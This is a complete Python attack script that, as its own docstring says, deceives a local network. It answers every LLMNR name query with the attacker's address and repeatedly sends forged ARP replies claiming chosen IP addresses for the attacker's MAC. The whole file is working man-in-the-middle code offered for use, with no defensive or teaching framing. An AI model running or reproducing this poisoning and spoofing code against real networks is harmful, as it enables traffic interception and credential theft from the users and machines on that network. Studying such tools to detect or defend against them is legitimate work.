# SPDX-License-Identifier: Apache-2.0
"""
Deceives a network: answers every name that LLMNR asks for, and says by ARP that ADDRESSES are its own.

usage: SECONDS OWN_ADDRESS [ADDRESS=MAC_THAT_IS_TOLD…]
"""
import pathlib
import socket
import struct
import sys
import threading
import time

seconds, own = float(sys.argv[1]), sys.argv[2]
claims = [word.split("=") for word in sys.argv[3:]]
mac = bytes.fromhex(pathlib.Path("/sys/class/net/eth0/address").read_text().strip().replace(":", ""))
end = time.monotonic() + seconds


def answer_names():
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sock.bind(("", 5355))
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP,
                    socket.inet_aton("224.0.0.252") + socket.inet_aton(own))
    sock.settimeout(1)
    while time.monotonic() < end:
        try:
            asked, who = sock.recvfrom(512)
        except TimeoutError:
            continue
        name = asked[12:]
        sock.sendto(asked[:2] + struct.pack("!5H", 0x8000, 1, 1, 0, 0) + name +
                    b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 30, 4) + socket.inet_aton(own), who)


def claim_addresses():
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sock.bind(("eth0", 0))
    while time.monotonic() < end:
        for address, told in claims:
            target = bytes.fromhex(told.replace(":", ""))
            sock.send(target + mac + struct.pack("!HHHBBH", 0x0806, 1, 0x0800, 6, 4, 2) + mac +
                      socket.inet_aton(address) + target + socket.inet_aton("0.0.0.0"))
        time.sleep(2)


threading.Thread(target=claim_addresses, daemon=True).start()
answer_names()
